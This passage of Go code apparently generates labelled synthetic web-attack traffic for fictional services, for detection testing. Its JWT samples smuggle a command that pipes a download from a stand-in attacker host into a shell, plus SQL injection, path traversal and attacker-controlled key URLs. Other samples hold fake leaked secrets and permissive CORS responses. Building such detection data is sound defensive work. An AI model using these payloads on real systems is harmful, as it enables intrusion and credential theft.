			return enc(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, c) + "."
		},
		func(c map[string]any) string { return enc(map[string]any{"alg": "HS256", "typ": "JWT"}, c) },
		func(c map[string]any) string {
			c["exp"] = h6Base.Add(-90 * time.Minute).Unix()
			return h6Sign(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, c)
		},
		func(c map[string]any) string {
			c["exp"] = h6Base.Add(-72 * time.Hour).Unix()
			c["iat"] = h6Base.Add(-73 * time.Hour).Unix()
			c["nbf"] = c["iat"]
			return h6Sign(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, c)
		},
		func(c map[string]any) string {
			c["exp"] = time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC).Unix()
			c["iat"] = time.Date(2025, 5, 31, 0, 0, 0, 0, time.UTC).Unix()
			c["nbf"] = c["iat"]
			return h6Sign(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2025-05-key_2"}, c)
		},
		func(c map[string]any) string {
			c["nbf"] = h6Base.Add(10 * 24 * time.Hour).Unix()
			return h6Sign(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, c)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null"}, c) + "." + sigOf(32)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "HS256", "kid": "../../../../proc/self/cwd/static/img/logo.png"}, c) + "." + sigOf(32)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "x' UNION SELECT 'secret' -- "}, c) + "." + sigOf(32)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "1' OR '1'='1"}, c) + "." + sigOf(32)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "HS256", "kid": "key1|id"}, c) + "." + sigOf(32)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "HS256", "kid": "k; curl c2.evil-cdn.example/k | sh"}, c) + "." + sigOf(32)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "HS256", "kid": "$(whoami)"}, c) + "." + sigOf(32)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "HS256", "kid": "a && nslookup c2.evil-cdn.example"}, c) + "." + sigOf(32)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "RS256", "typ": "JWT", "jku": "https://c2.evil-cdn.example/.well-known/jwks.json", "kid": "atk1"}, c) + "." + sigOf(256)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "RS256", "jku": "http://127.0.0.1:8000/jwks.json", "kid": "1"}, c) + "." + sigOf(256)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "RS256", "jku": "https://auth.nebulaplay.test.c2.evil-cdn.example/keys"}, c) + "." + sigOf(256)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "RS256", "x5u": "https://c2.evil-cdn.example/cert.pem"}, c) + "." + sigOf(256)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "RS256", "x5u": "http://10.0.0.5/certs/signing.pem"}, c) + "." + sigOf(256)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "RS256", "typ": "JWT", "jwk": map[string]any{"kty": "RSA", "e": "AQAB", "kid": "atk", "use": "sig", "n": rsaN}}, c) + "." + sigOf(256)
		},
		func(c map[string]any) string {
			return enc(map[string]any{"alg": "ES256", "jwk": map[string]any{"kty": "EC", "crv": "P-256", "x": h6B64([]byte(g.alnum(32, h6AN))), "y": h6B64([]byte(g.alnum(32, h6AN)))}}, c) + "." + sigOf(64)
		},
	}
	for i := 0; i < 66; i++ {
		v := variants[i%len(variants)]
		var u *h6User
		var path string
		switch i % 3 {
		case 0:
			u = g.atk(w.atkTel)
			path = "/v2/accounts/" + u.acct + "/messages?page_size=20"
		case 1:
			u = g.atk(w.atkHome)
			path = "/api/mortgage/applications/app_" + g.alnum(16, h6AN)
		default:
			u = g.atk(w.atkGame)
			path = g.pick([]string{"/v1/players/me", "/v1/inventory?per_page=50"})
		}
		c := h6Claims(u.sub, u.role, u.host)
		if i >= len(variants) && i%2 == 0 {
			c["sub"] = g.pick([]string{"plr_58000000", "usr_420000", "dev_1100", "gm_001"})
		}
		x := g.ok(u, "GET", path, nil, "", 200, `{"ok":true}`)
		x.authHdr = v(c)
		g.attackX(x, h6JWT)
	}
}

var h6VerboseBodies = []string{
	"{\"error\":\"internal\",\"trace\":\"java.lang.NullPointerException: Cannot invoke \\\"String.length()\\\" because \\\"msisdn\\\" is null\\n\\tat com.relaytel.sms.routing.Router.route(Router.java:88)\\n\\tat com.relaytel.sms.api.MessageController.send(MessageController.java:142)\\n\\tat jdk.internal.reflect.GeneratedMethodAccessor211.invoke(Unknown Source)\"}",
	"Traceback (most recent call last):\n  File \"/srv/app/listings/views.py\", line 214, in search\n    beds = int(request.GET['bedrooms'])\n  File \"/usr/lib/python3.12/site-packages/django/utils/datastructures.py\", line 86, in __getitem__\n    raise MultiValueDictKeyError(key)\ndjango.utils.datastructures.MultiValueDictKeyError: 'bedrooms'\n",
	"panic: runtime error: index out of range [3] with length 3\n\ngoroutine 57 [running]:\nmain.(*Matchmaker).pick(0xc0001a2000, {0xc00031e0c0, 0x3, 0x4})\n\t/src/nebula/matchmaker/mm.go:142 +0x1d4\nmain.(*Matchmaker).Run(0xc0001a2000)\n\t/src/nebula/matchmaker/mm.go:88 +0x9c\n",
	"{\"type\":\"https://tools.ietf.org/html/rfc9110#section-15.6.1\",\"title\":\"An error occurred\",\"detail\":\"System.NullReferenceException: Object reference not set to an instance of an object.\\r\\n   at Nebula.Inventory.InventoryService.Equip(Int32 slot) in C:\\\\build\\\\Inventory\\\\InventoryService.cs:line 77\\r\\n   at Nebula.Api.Controllers.InventoryController.Equip(EquipRequest req) in C:\\\\build\\\\Api\\\\InventoryController.cs:line 31\"}",
	"{\"error\":\"TypeError: Cannot read properties of undefined (reading 'msisdn')\\n    at normalize (/app/src/numbers/normalize.js:41:18)\\n    at Array.map (<anonymous>)\\n    at lookup (/app/src/routes/lookup.js:22:31)\\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)\"}",
	"<br />\n<b>Fatal error</b>:  Uncaught PDOException: SQLSTATE[42S22]: Column not found: 1054 Unknown column 'bedroomz' in 'where clause' in /var/www/agency/api/listing.php:57\nStack trace:\n#0 /var/www/agency/api/listing.php(57): PDO->query('SELECT * FROM l...')\n#1 {main}\n  thrown in <b>/var/www/agency/api/listing.php</b> on line <b>57</b><br />",
	"<br />\n<b>Warning</b>:  Undefined array key \"price\" in <b>/var/www/agency/feed/import.php</b> on line <b>33</b><br />\n{\"accepted\":0}",
	"{\"status\":500,\"error\":\"NoMethodError: undefined method `handle' for nil:NilClass\\n/app/app/models/player.rb:12:in `display_name'\\n/app/app/controllers/players_controller.rb:40:in `show'\"}",
	"thread 'tokio-runtime-worker' panicked at src/chat/filter.rs:88:14:\ncalled `Option::unwrap()` on a `None` value\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n",
	"{\"error\":\"ER_BAD_FIELD_ERROR: Unknown column 'carrier_nme' in 'field list'\",\"code\":\"ER_BAD_FIELD_ERROR\",\"errno\":1054,\"sqlState\":\"42S22\"}",
	"{\"error\":\"pq: relation \\\"carrier_prefixes\\\" does not exist\"}",
	"{\"error\":\"SQLITE_CONSTRAINT: UNIQUE constraint failed: players.handle\"}",
	"{\"error\":\"ORA-00942: table or view does not exist\"}",
	"{\"message\":\"Msg 208, Level 16, State 1, Line 1\\nInvalid object name 'dbo.MortgageApps'.\"}",
	"{\"error\":\"sql: Scan error on column index 2, name \\\"amount\\\": converting NULL to float64 is unsupported\"}",
	"<!DOCTYPE html><html><head><title>OperationalError at /api/listings/88123/</title></head><body><h1>OperationalError at /api/listings/88123/</h1><pre class=\"exception_value\">could not connect to server: Connection refused</pre><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file. Change that to False, and Django will display a standard page generated by the handler for this status code.</p></body></html>",
	"{\"message\":\"SQLSTATE[HY000] [2002] Connection refused (SQL: select * from `listings` where `id` = 88123 limit 1)\",\"exception\":\"Illuminate\\\\Database\\\\QueryException\",\"file\":\"/var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php\",\"line\":760,\"trace\":[{\"file\":\"/var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php\",\"line\":720,\"function\":\"runQueryCallback\",\"class\":\"Illuminate\\\\Database\\\\Connection\",\"type\":\"->\"}]}",
	"<!DOCTYPE html><html><head><title>HTTP Status 500 – Internal Server Error</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><hr class=\"line\" /><p><b>Type</b> Exception Report</p><p><b>Exception</b></p><pre>jakarta.servlet.ServletException: Request processing failed: java.lang.IllegalStateException: carrier not configured\n\torg.springframework.web.servlet.FrameworkServlet.processRequest(FrameworkServlet.java:1022)\n</pre><hr class=\"line\" /><h3>Apache Tomcat/10.1.28</h3></body></html>",
	"{\"timestamp\":\"2026-11-24T10:01:12.331+00:00\",\"status\":500,\"error\":\"Internal Server Error\",\"trace\":\"java.lang.IllegalArgumentException: No enum constant com.homestead.loan.LoanType.THIRTY_YEAR\\n\\tat java.base/java.lang.Enum.valueOf(Enum.java:293)\\n\\tat com.homestead.loan.LoanType.valueOf(LoanType.java:5)\",\"path\":\"/api/mortgage/applications\"}",
	"<html><head><title>Symfony Exception</title></head><body><div class=\"exception-message-wrapper\"><h1 class=\"break-long-words exception-message\">Symfony\\Component\\HttpKernel\\Exception\\NotFoundHttpException: No route found for \"GET /api/feeds/agency/v1\"</h1></div><div class=\"trace-line\">in /var/www/agency/vendor/symfony/http-kernel/EventListener/RouterListener.php (line 127)</div></body></html>",
	"<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Error</title>\n</head>\n<body>\n<pre>Error: ENOENT: no such file or directory, open '/app/templates/sms/pt-BR.hbs'<br> &nbsp; &nbsp;at Object.openSync (node:fs:573:18)<br> &nbsp; &nbsp;at Object.readFileSync (node:fs:452:35)<br> &nbsp; &nbsp;at render (/app/src/templates.js:19:22)</pre>\n</body>\n</html>",
	"<html><head><title>Runtime Error</title></head><body><h1>Server Error in '/' Application.</h1><h2><i>Object reference not set to an instance of an object.</i></h2><b>Exception Details: </b>System.NullReferenceException: Object reference not set to an instance of an object.<br><b>Stack Trace:</b><pre>[NullReferenceException: Object reference not set to an instance of an object.]\n   Homestead.Web.Controllers.CreditController.Check(String appId) in D:\\agents\\_work\\1\\s\\Web\\Controllers\\CreditController.cs:54\n</pre><b>Version Information:</b> Microsoft .NET Framework Version:4.0.30319; ASP.NET Version:4.8.4667.0</body></html>",
	"{\"errors\":[{\"message\":\"Cannot return null for non-nullable field Player.handle.\",\"extensions\":{\"code\":\"INTERNAL_SERVER_ERROR\",\"exception\":{\"stacktrace\":[\"Error: Cannot return null for non-nullable field Player.handle.\",\"    at completeValue (/app/node_modules/graphql/execution/execute.js:594:13)\",\"    at /app/node_modules/graphql/execution/execute.js:486:9\"]}}}]}",
	"Traceback (most recent call last):\n  File \"/opt/nebula/admin/bans.py\", line 51, in apply_ban\n    until = datetime.fromisoformat(body[\"until\"])\nValueError: Invalid isoformat string: '30m'\n",
	"{\"error\":\"Exception in thread \\\"http-nio-8080-exec-7\\\" java.lang.ArithmeticException: / by zero\\n\\tat com.nebula.stats.KdRatio.compute(KdRatio.java:19)\\n\\tat com.nebula.stats.StatsController.me(StatsController.java:44)\"}",
	"{\"error\":\"UNIQUE constraint failed: sims.iccid\",\"detail\":\"sqlite3.IntegrityError: UNIQUE constraint failed: sims.iccid\"}",
	"{\"detail\":\"ERROR:  invalid input syntax for type uuid: \\\"app_9f2k\\\"\\nLINE 1: SELECT * FROM applications WHERE id = 'app_9f2k'\\n                                                ^\"}",
	"{\"error\":\"Error 1062 (23000): Duplicate entry '+447700900123' for key 'numbers.PRIMARY'\"}",
	"{\"error\":\"Invalid column name 'ltv_ratio'.\",\"source\":\".Net SqlClient Data Provider\",\"class\":16,\"number\":207,\"stack\":\"   at Microsoft.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection, Action`1 wrapCloseInAction)\\r\\n   at Homestead.Data.AppRepository.Get(String id) in /src/Data/AppRepository.cs:line 88\"}",
	"{\"error\":\"/app/lib/nebula/chat.rb:77:in 'Nebula::Chat#deliver': undefined local variable or method 'room' for an instance of Nebula::Chat (NameError)\\n\\tfrom /app/lib/nebula/server.rb:12:in 'block in <main>'\"}",
	"{\"error\":\"PHP Notice:  Undefined index: agency_id in /var/www/agency/feed/validate.php on line 12\"}",
	"{\"error\":\"org.hibernate.exception.SQLGrammarException: could not extract ResultSet\",\"cause\":\"org.postgresql.util.PSQLException: ERROR: column l.bedrooms_count does not exist\\n  Position: 58\"}",
	"file:///app/dist/server/routes/leaderboard.mjs:41\n    const top = rows.slice(0, limit).map(r => r.rating.toFixed(0));\n                                                       ^\n\nTypeError: Cannot read properties of null (reading 'toFixed')\n    at file:///app/dist/server/routes/leaderboard.mjs:41:56\n    at Array.map (<anonymous>)\n    at getLeaderboard (file:///app/dist/server/routes/leaderboard.mjs:41:38)\n",
	"{\"error\":\"SequelizeDatabaseError: column \\\"msisdn_e164\\\" does not exist\",\"name\":\"SequelizeDatabaseError\",\"parent\":{\"code\":\"42703\",\"sql\":\"SELECT \\\"id\\\", \\\"msisdn_e164\\\" FROM \\\"numbers\\\" AS \\\"Number\\\";\"}}",
	"{\"message\":\"Whoops, looks like something went wrong.\",\"exception\":\"ErrorException\",\"file\":\"/var/www/html/app/Http/Controllers/ListingController.php\",\"line\":118,\"trace\":[{\"file\":\"/var/www/html/vendor/laravel/framework/src/Illuminate/Routing/Controller.php\",\"line\":54,\"function\":\"show\"}]}",
	"{\"error\":\"System.Data.SqlClient.SqlException (0x80131904): Incorrect syntax near the keyword 'ORDER'.\\r\\n   at System.Data.SqlClient.SqlCommand.RunExecuteReader()\"}",
	"{\"error\":\"(1146, \\\"Table 'homestead.listing_photo' doesn't exist\\\")\"}",
	"Error: connect ECONNREFUSED 10.0.3.14:5432\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)\n",
	"{\"error\":\"SQLSTATE[23000]: Integrity constraint violation: 1452 Cannot add or update a child row: a foreign key constraint fails\"}",
	"{\"error\":\"goroutine 1 [running]:\\nruntime/debug.Stack()\\n\\t/usr/local/go/src/runtime/debug/stack.go:26 +0x5e\\ngithub.com/nebula/gw/resolvers.(*Query).Player(0xc000124000)\\n\\t/build/gw/resolvers/player.go:57 +0x1a5\"}",
}

func (g *h6Gen) verboseAttacks(w *h6World) {
	for i, b := range h6VerboseBodies {
		var x *h6X
		switch i % 3 {
		case 0:
			u := w.devs[g.r.IntN(len(w.devs))]
			x = g.ok(u, "GET", "/v2/lookup/"+url.PathEscape(g.pick(h6Phones))+"?fields=carrier", nil, "", 500, b)
		case 1:
			u := w.buyers[g.r.IntN(len(w.buyers))]
			x = g.ok(u, "GET", fmt.Sprintf("/api/listings/%d", 88000+g.r.IntN(9000)), nil, "", 500, b)
		default:
			u := w.players[g.r.IntN(len(w.players))]
			x = g.ok(u, "GET", "/v1/players/me", nil, "", 500, b)
		}
		if strings.HasPrefix(b, "Traceback") || strings.HasPrefix(b, "panic") || strings.HasPrefix(b, "thread") || strings.HasPrefix(b, "file:") || strings.HasPrefix(b, "Error:") {
			x.rhdr = map[string]string{"Content-Type": "text/plain; charset=utf-8"}
		}
		g.attackX(x, h6Verb)
	}
	// permissive CORS on credentialed responses
	cors := []struct{ origin, acao string }{
		{"https://c2.evil-cdn.example", "https://c2.evil-cdn.example"}, {"null", "null"}, {"https://relaytel.test.attacker.example", "https://relaytel.test.attacker.example"},
		{"https://evil.example", "*"}, {"http://homestead.test", "http://homestead.test"}, {"https://nebulaplay-giveaways.example", "https://nebulaplay-giveaways.example"},
		{"null", "null"}, {"https://xn--nebulapla-3ib.example", "https://xn--nebulapla-3ib.example"}, {"http://app.homestead.test", "http://app.homestead.test"},
		{"https://c2.evil-cdn.example", "https://c2.evil-cdn.example"}, {"https://steal.example.net", "https://steal.example.net"},
	}
	for i, c := range cors {
		var x *h6X
		switch i % 3 {
		case 0:
			u := g.atk(w.atkTel)
			x = g.ok(u, "GET", "/v2/accounts/"+u.acct+"/messages?page_size=20", map[string]string{"Origin": c.origin}, "", 200, `{"messages":[{"to":"+447700900123","body":"Your code is 551204"}]}`)
		case 1:
			u := w.buyers[g.r.IntN(len(w.buyers))]
			if strings.HasPrefix(c.origin, "http://") {
				u = g.atk(w.atkHome)
			}
			x = g.ok(u, "GET", "/api/mortgage/applications/app_"+g.alnum(16, h6AN), map[string]string{"Origin": c.origin}, "", 200, `{"id":"app_x","status":"in_review","applicant":{"last_name":"Hill"}}`)
		default:
			u := g.atk(w.atkGame)
			x = g.ok(u, "GET", "/v1/players/me", map[string]string{"Origin": c.origin}, "", 200, `{"id":"plr_99000000","mmr":1800}`)
		}
		x.rhdr = map[string]string{"Access-Control-Allow-Origin": c.acao, "Access-Control-Allow-Credentials": "true", "Vary": "Origin"}
		g.attackX(x, h6Verb)
	}
}

func (g *h6Gen) pem(kind string, n int) string {
	var lines []string
	for i := 0; i < n; i++ {
		lines = append(lines, g.alnum(64, h6B64c))
	}
	return "-----BEGIN " + kind + "-----\n" + "MII" + strings.Join(lines, "\n")[3:] + "\n" + g.alnum(24, h6B64c) + "==\n-----END " + kind + "-----\n"
}

func (g *h6Gen) sensitiveAttacks(w *h6World) {
	luhn := []struct {
		p string
		n int
	}{{"4", 16}, {"51", 16}, {"55", 16}, {"2221", 16}, {"34", 15}, {"37", 15}, {"6011", 16}, {"62", 16}, {"3528", 16}, {"2200", 16}, {"6759", 16}, {"4", 16}, {"53", 16}}
	card := func(i int) string { c := luhn[i%len(luhn)]; return g.h6Luhn(c.p, c.n) }
	group := func(s string) string {
		var b []string
		for i := 0; i < len(s); i += 4 {
			e := i + 4
			if e > len(s) {
				e = len(s)
			}
			b = append(b, s[i:e])
		}
		return strings.Join(b, " ")
	}
	bcrypt := func() string {
		return "$2b$12$" + g.alnum(53, "./ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
	}
	awsID := func() string { return "AKIA" + g.alnum(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") }
	awsSecret := func() string { return g.alnum(40, h6AN+"+/") }
	bodies := []string{
		h6JSONOf(map[string]any{"id": "app_x", "fee_payment": map[string]any{"card_number": card(0), "exp": "08/29", "cvc": g.digits(3), "name": "SAM HILL"}}),
		h6JSONOf(map[string]any{"applicant": map[string]any{"name": "Seán O'Reilly"}, "payment_method": map[string]any{"type": "card", "number": card(1), "exp_month": 4, "exp_year": 2029}}),
		h6JSONOf(map[string]any{"billing": map[string]any{"pan": card(2), "holder": "ACME MESSAGING LTD"}}),
		h6JSONOf(map[string]any{"note": "Customer paid deposit with card " + group(card(3)) + " on 2026-11-20, approved."}),
		h6JSONOf(map[string]any{"wallet": []map[string]any{{"brand": "amex", "cc_number": card(4)}, {"brand": "visa", "last4": "4242"}}}),
		"id,player,amount,card_number,created\n1,MaxPower,19.99," + card(5) + ",2026-11-20\n2,Zoë,4.99," + card(11) + ",2026-11-21\n",
		h6JSONOf(map[string]any{"purchase": map[string]any{"sku": "gems_1200", "creditCard": group(card(6))}}),
		h6JSONOf(map[string]any{"topup": map[string]any{"unionpay_card": card(7), "amount_cny": 98}}),
		h6JSONOf(map[string]any{"payment": map[string]any{"method": "jcb", "account_number": card(8)}}),
		h6JSONOf(map[string]any{"card": map[string]any{"number": card(9), "network": "mir"}}),
		h6JSONOf(map[string]any{"payment": map[string]any{"maestro_card_no": card(10), "holder": "K. NOWAK"}}),
		h6JSONOf(map[string]any{"id": "plr_58007919", "handle": "MaxPower", "email": "max@example.org", "password_hash": bcrypt()}),
		h6JSONOf(map[string]any{"users": []map[string]any{{"login": "dev_1100", "password": "Summer2026!relay"}, {"login": "dev_1137", "password": "Tr0ub4dor&3"}}}),
		h6JSONOf(map[string]any{"agent": map[string]any{"id": "agt_0311", "pwd_sha256": g.alnum(64, h6Hex)}}),
		h6JSONOf(map[string]any{"account": map[string]any{"username": "uw_007", "hashed_password": "$argon2id$v=19$m=65536,t=3,p=4$" + g.alnum(22, h6AN) + "$" + g.alnum(43, h6AN)}}),
		h6JSONOf(map[string]any{"player": map[string]any{"handle": "Zoë", "passwd": "$6$rounds=5000$" + g.alnum(16, h6AN) + "$" + g.alnum(86, h6AN+"./")}}),
		h6JSONOf(map[string]any{"sftp": map[string]any{"host": "feeds.homestead.test", "user": "agency_8812", "private_key": g.pem("RSA PRIVATE KEY", 12)}}),
		g.pem("OPENSSH PRIVATE KEY", 7),
		h6JSONOf(map[string]any{"tls": map[string]any{"cert": "-----BEGIN CERTIFICATE-----\nMIIB" + g.alnum(60, h6B64c) + "\n-----END CERTIFICATE-----\n", "key": g.pem("EC PRIVATE KEY", 3)}}),
		h6JSONOf(map[string]any{"keys": []map[string]any{{"kty": "RSA", "kid": "2026-11-key_1", "use": "sig", "n": h6B64([]byte(g.alnum(256, h6AN))), "e": "AQAB", "d": h6B64([]byte(g.alnum(256, h6AN))), "p": h6B64([]byte(g.alnum(128, h6AN))), "q": h6B64([]byte(g.alnum(128, h6AN)))}}}),
		h6JSONOf(map[string]any{"type": "service_account", "project_id": "nebula-prod-4412", "private_key_id": g.alnum(40, h6Hex), "private_key": g.pem("PRIVATE KEY", 10), "client_email": "gw@nebula-prod-4412.iam.gserviceaccount.com"}),
		h6JSONOf(map[string]any{"storage": map[string]any{"aws_access_key_id": awsID(), "aws_secret_access_key": awsSecret(), "bucket": "relaytel-recordings-eu"}}),
		"[default]\naws_access_key_id = " + awsID() + "\naws_secret_access_key = " + awsSecret() + "\nregion = eu-west-1\n",
		h6JSONOf(map[string]any{"blob": "DefaultEndpointsProtocol=https;AccountName=homesteaddocs;AccountKey=" + g.alnum(86, h6B64c) + "==;EndpointSuffix=core.windows.net"}),
		h6JSONOf(map[string]any{"bus": "Endpoint=sb://nebula-events.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=" + g.alnum(43, h6B64c) + "="}),
		h6JSONOf(map[string]any{"export_url": "https://homesteaddocs.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-01-01T00:00:00Z&st=2026-11-01T00:00:00Z&spr=https&sig=" + url.QueryEscape(g.alnum(43, h6B64c)+"=")}),
		h6JSONOf(map[string]any{"integrations": map[string]any{"github_token": "ghp_" + g.alnum(36, h6AN)}}),
		h6JSONOf(map[string]any{"ci": map[string]any{"token": "glpat-" + g.alnum(20, h6AN+"-_")}}),
		h6JSONOf(map[string]any{"alerts": map[string]any{"slack_bot_token": "xoxb-" + g.digits(12) + "-" + g.digits(13) + "-" + g.alnum(24, h6AN)}}),
		h6JSONOf(map[string]any{"publish": map[string]any{"npm_token": "npm_" + g.alnum(36, h6AN)}}),
		h6JSONOf(map[string]any{"shop": map[string]any{"domain": "nebula-merch.myshopify.com", "access_token": "shpat_" + g.alnum(32, h6Hex)}}),
		h6JSONOf(map[string]any{"billing": map[string]any{"stripe_secret_key": "sk_live_51N" + g.alnum(96, h6AN), "publishable_key": "pk_live_51N" + g.alnum(96, h6AN)}}),
		h6JSONOf(map[string]any{"pos": map[string]any{"square_access_token": "EAAA" + g.alnum(60, h6AN+"-_")}}),
		h6JSONOf(map[string]any{"moderation": map[string]any{"openai_api_key": "sk-proj-" + g.alnum(48, h6AN+"-_") + "T3BlbkFJ" + g.alnum(48, h6AN+"-_")}}),
		h6JSONOf(map[string]any{"assistant": map[string]any{"anthropic_key": "sk-ant-api03-" + g.alnum(93, h6AN+"-_") + "AA"}}),
		h6JSONOf(map[string]any{"database_url": "postgres://listings_app:Hs7!kq2Lw9xZ@db-primary.internal:5432/homestead?sslmode=require"}),
		h6JSONOf(map[string]any{"cache": "redis://:r3d1sP4ssw0rd2026@10.0.4.12:6379/0", "queue": "amqp://relay:Qu3u3-S3cret@mq.internal:5672/%2f"}),
		h6JSONOf(map[string]any{"mongo": "mongodb+srv://nebula_rw:Nb%40Prod2026x@cluster0.ab1cd.mongodb.net/game?retryWrites=true"}),
		"APP_ENV=production\nAPP_KEY=base64:" + g.alnum(43, h6B64c) + "=\nDB_HOST=10.0.3.14\nDB_USERNAME=homestead\nDB_PASSWORD=Pr0d-Db-" + g.alnum(12, h6AN) + "\nMAIL_PASSWORD=" + g.alnum(16, h6AN) + "\n",
		"[database]\nhost = 10.0.3.14\nuser = relaytel\npassword = " + g.alnum(20, h6AN) + "\n\n[smpp]\nsystem_id = relaytel01\n",
		"[smtp]\nhost = \"smtp.sendgrid.net\"\nusername = \"apikey\"\npassword = \"SG." + g.alnum(22, h6AN) + "." + g.alnum(43, h6AN) + "\"\n",
		h6JSONOf(map[string]any{"webhook": map[string]any{"url": "https://hooks.brightlane.co.uk/sms", "signing_secret": g.alnum(40, h6Hex)}, "api_secret": "rt_sec_" + g.alnum(40, h6AN)}),
		h6JSONOf(map[string]any{"oauth_client": map[string]any{"client_id": "hs-web", "client_secret": g.alnum(48, h6AN)}}),
		h6JSONOf(map[string]any{"smpp_bind": map[string]any{"system_id": "relay01", "password": "Sm9p!" + g.digits(4)}}),
		h6JSONOf(map[string]any{"env": map[string]any{"PATH": "/usr/local/bin:/usr/bin", "AWS_SECRET_ACCESS_KEY": awsSecret(), "AWS_ACCESS_KEY_ID": awsID()}}),
		h6JSONOf(map[string]any{"applicants": []map[string]any{{"name": "Hill, Sam", "ssn": "078-05-1120"}, {"name": "O'Reilly, Seán", "card_on_file": card(12)}}}),
		h6JSONOf(map[string]any{"access_token": "eyJ" + g.alnum(30, h6AN), "token_type": "Bearer", "admin_api_token": "adm_" + g.alnum(40, h6AN)}),
		h6JSONOf(map[string]any{"server": map[string]any{"rcon_password": "nebula-rcon-" + g.alnum(12, h6AN), "host": "eu-west-7.game.nebulaplay.test"}}),
		h6JSONOf(map[string]any{"github": map[string]any{"app_private_key": g.pem("RSA PRIVATE KEY", 8)}}),
		h6JSONOf(map[string]any{"deploy": map[string]any{"token": "github_pat_11A" + g.alnum(19, h6Upper) + "_" + g.alnum(59, h6AN)}}),
		h6JSONOf(map[string]any{"payments": map[string]any{"live_key": "sk_live_" + g.alnum(24, h6AN)}}),
		h6JSONOf(map[string]any{"sentry_dsn": "https://public@o1.ingest.sentry.io/1", "db_password": "hs_" + g.alnum(18, h6AN)}),
		h6JSONOf(map[string]any{"player": map[string]any{"handle": "MaxPower", "password": "hunter2hunter2"}}),
		h6JSONOf(map[string]any{"refund": map[string]any{"card": func() string {
			// One card, dash-grouped. (Built first from four calls, which
			// drew four cards: the grouped number failed the Luhn check its
			// label claims. The other three draws stay, so that the rest
			// of the corpus is as it was.)
			c := card(0)
			_, _, _ = card(0), card(0), card(0)
			return strings.Join([]string{c[:4], c[4:8], c[8:12], c[12:]}, "-")
		}(), "amount": 495}}),
		h6JSONOf(map[string]any{"db": "mysql://root:" + g.alnum(14, h6AN) + "@10.0.3.20:3306/relaytel"}),
		h6JSONOf(map[string]any{"oncall": map[string]any{"slack_user_token": "xoxp-" + g.digits(12) + "-" + g.digits(12) + "-" + g.digits(13) + "-" + g.alnum(32, h6Hex)}}),
		"-----BEGIN ENCRYPTED PRIVATE KEY-----\n" + g.alnum(64, h6B64c) + "\n" + g.alnum(64, h6B64c) + "\n" + g.alnum(40, h6B64c) + "==\n-----END ENCRYPTED PRIVATE KEY-----\n",
		h6JSONOf(map[string]any{"agents": []map[string]any{{"email": "d.angelo@homestead.test", "password_digest": "$2a$10$" + g.alnum(53, h6AN+"./")}}}),
		h6JSONOf(map[string]any{"members": []map[string]any{{"handle": "Бублик", "pass_hash": "$2y$10$" + g.alnum(53, h6AN+"./")}}}),
		h6JSONOf(map[string]any{"receipt": map[string]any{"text": "VISA " + group(card(11)) + " AUTH 0912 APPROVED"}}),
		h6JSONOf(map[string]any{"voice": map[string]any{"sip_trunk": "sip:trunk01:Tr_" + g.alnum(14, h6AN) + "@sip.relaytel.test", "sip_password": g.alnum(16, h6AN)}}),
		h6JSONOf(map[string]any{"ftp": "ftp://agency_feed:F33d-" + g.alnum(10, h6AN) + "@ftp.agency-feeds.eu/incoming"}),
	}
	for i, b := range bodies {
		var x *h6X
		switch i % 4 {
		case 0:
			u := g.atk(w.atkTel)
			x = g.ok(u, "GET", g.pick([]string{"/v2/accounts/" + u.acct + "/settings", "/v2/debug/config", "/v2/accounts/" + u.acct + "/billing"}), nil, "", 200, b)
		case 1:
			u := g.atk(w.atkHome)
			x = g.ok(u, "GET", g.pick([]string{"/api/mortgage/applications/app_" + g.alnum(16, h6AN), "/api/agencies/BRK-88121", "/api/config.json"}), nil, "", 200, b)
		case 2:
			u := g.atk(w.atkGame)
			x = g.ok(u, "GET", g.pick([]string{"/v1/players/plr_5800" + g.digits(4), "/v1/store/purchases/" + g.digits(12), "/v1/servers/eu-west-7"}), nil, "", 200, b)
		default:
			u := []*h6User{w.devs[g.r.IntN(len(w.devs))], w.buyers[g.r.IntN(len(w.buyers))], w.players[g.r.IntN(len(w.players))]}[i%3]
			path := map[string]string{h6Tel: "/.env", h6Home: "/api/export/applicants.csv", h6Game: "/v1/players/me"}[u.host]
			x = g.ok(u, "GET", path, nil, "", 200, b)
		}
		if !strings.HasPrefix(b, "{") {
			x.rhdr = map[string]string{"Content-Type": "text/plain; charset=utf-8"}
			if strings.HasPrefix(b, "id,") {
